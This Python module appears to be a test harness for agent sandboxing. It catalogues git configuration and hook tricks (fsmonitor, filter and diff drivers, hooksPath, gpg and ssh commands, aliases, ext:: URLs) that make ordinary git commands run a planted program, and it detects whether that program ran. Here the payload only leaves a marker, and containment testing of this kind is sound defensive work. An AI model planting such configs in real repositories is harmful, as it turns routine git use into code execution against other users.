"""Ways to make a repository run something, and a program that tells when one of them did.

Each taint is a shell script for a work tree whose `.git` may be written; `$HOOK` is the program. `CARELESS` has, for
each, plain git commands that run it: without them nobody would know that a taint can do anything.
"""

from pathlib import Path

ATTACKS = {
    "fsmonitor": "git config core.fsmonitor $HOOK",
    "include": "printf '[core]\\n fsmonitor = %s\\n' $HOOK > .git/inc; git config include.path inc",
    "external diff": (
        "git config diff.external $HOOK; git config diff.evil.textconv $HOOK; echo '* diff=evil' >> .gitattributes"
    ),
    "filter": (
        "git config filter.evil.clean $HOOK; git config filter.evil.smudge $HOOK; git config filter.evil.process $HOOK;"
        " echo '* filter=evil' >> .gitattributes"
    ),
    "hooks": (
        "mkdir -p .git/hooks hooks; for h in pre-commit post-commit post-index-change reference-transaction"
        " post-checkout post-merge pre-rebase post-rewrite pre-push pre-auto-gc pre-receive update post-receive"
        " post-update proc-receive push-to-checkout; do"
        " cp .git/evil .git/hooks/$h; cp .git/evil hooks/$h; done; git config core.hooksPath hooks"
    ),
    "gpg": (
        "git config gpg.program $HOOK; git config commit.gpgSign true; git config tag.gpgSign true;"
        " git config push.gpgSign if-asked; git config log.showSignature true"
    ),
    "ssh": "git config core.sshCommand $HOOK; git config remote.origin.url ssh://localhost/x",
    "uploadpack": (
        "git config uploadpack.packObjectsHook $HOOK; git config remote.origin.uploadpack $HOOK;"
        " git config remote.origin.receivepack $HOOK; git config remote.origin.url ."
    ),
    "credential helper": 'git config credential.helper "!$HOOK"; git config core.askPass $HOOK',
    "alias": (
        "for a in add commit status bundle diff log pull fetch rebase show rev-parse mine; do"
        ' git config alias.$a "!$HOOK"; done;'
        " git config core.editor $HOOK; git config core.pager $HOOK; git config sequence.editor $HOOK"
    ),
    "alternate refs": (
        "git config core.alternateRefsCommand $HOOK; git config core.gitProxy $HOOK;"
        " git config merge.evil.driver $HOOK; echo '* merge=evil' >> .gitattributes;"
        " git config protocol.ext.allow always; git config gc.recentObjectsHook $HOOK;"
        ' git config url."ext::$HOOK".insteadOf /'
    ),
}

TOGETHER = (
    ("fsmonitor", "external diff", "gpg", "ssh"),
    ("include", "filter", "credential helper", "alternate refs"),
    ("hooks", "uploadpack", "alias"),
)
"""All taints, in groups whose members change nothing of one another."""

UNSAFE_COMMANDS = {
    "fsmonitor": ("git status",),
    "include": ("git status",),
    "external diff": ("git diff", "git log -p"),
    "filter": ("git add greeting.txt", "rm greeting.txt; git checkout greeting.txt"),
    "hooks": (
        "git commit --allow-empty -m x",
        "git checkout -b mine",
        "git pull ../pulled",
        "git push ../pushed HEAD:mine",
    ),
    "gpg": ("git commit --allow-empty -m x", "git tag -m x x"),
    "ssh": ("git fetch origin", "git push origin HEAD:x"),
    "uploadpack": ("git fetch origin", "git push origin HEAD:x"),
    "credential helper": ("printf 'protocol=https\\nhost=localhost\\n\\n' | git credential fill",),
    "alias": ("git mine", "git commit --allow-empty"),
    "alternate refs": (
        "git fetch '/ x'",
        "git fetch git://localhost/x",
        "git merge other",
        "git fetch ../pulled",
    ),
}


class AttackMarks:
    """A folder in which anybody may leave a mark, and a program for each taint that does; sealed agents see neither."""

    def __init__(self, root: Path) -> None:
        self._root = root
        self._folder = root / "marks"
        self._folder.mkdir()
        self._folder.chmod(0o777)
        for taint in ATTACKS:
            program = self._program(taint)
            program.write_text(self._text(taint), encoding="utf-8")
            program.chmod(0o755)

    def _program(self, taint: str) -> Path:
        return self._root / f"evil-{_slug(taint)}"

    def _text(self, taint: str) -> str:
        """The program: it says as whom it ran and of which taint it is, and passes on what it is given."""
        mark = f"{self._folder}/$(id -u).{_slug(taint)}"
        return f"#!/bin/sh\ntouch {mark} 2>/dev/null\ntimeout 0.2 cat 2>/dev/null\n"

    def attack_script(self, *taints: str) -> str:
        """Give a script that taints the repository that it is run in, in all of these ways.

        The program that the configuration names lies on this machine where everybody may run it, as if the agent
        knew of one; hooks are files of the repository.
        """
        return "; ".join(self._tainting(taint) for taint in taints)

    def _tainting(self, taint: str) -> str:
        made = self._text(taint).replace("\n", "\\n")
        hook = f"HOOK={self._program(taint)}"
        return f"printf '{made}' > .git/evil; chmod +x .git/evil; {hook}; ({ATTACKS[taint]}) 2>&1"

    def take_marks(self) -> set[int]:
        """Give the users as whom a program ran since it was asked last."""
        return {user for users in self.taken_by_taint().values() for user in users}

    def taken_by_taint(self) -> dict[str, set[int]]:
        """Give the same for each taint whose program ran."""
        found: dict[str, set[int]] = {}
        for path in list(self._folder.iterdir()):
            path.unlink()
            user, _, slug = path.name.partition(".")
            found.setdefault(_NAMES[slug], set()).add(int(user))
        return found


def _slug(taint: str) -> str:
    return taint.replace(" ", "-")


_NAMES = {_slug(taint): taint for taint in ATTACKS}
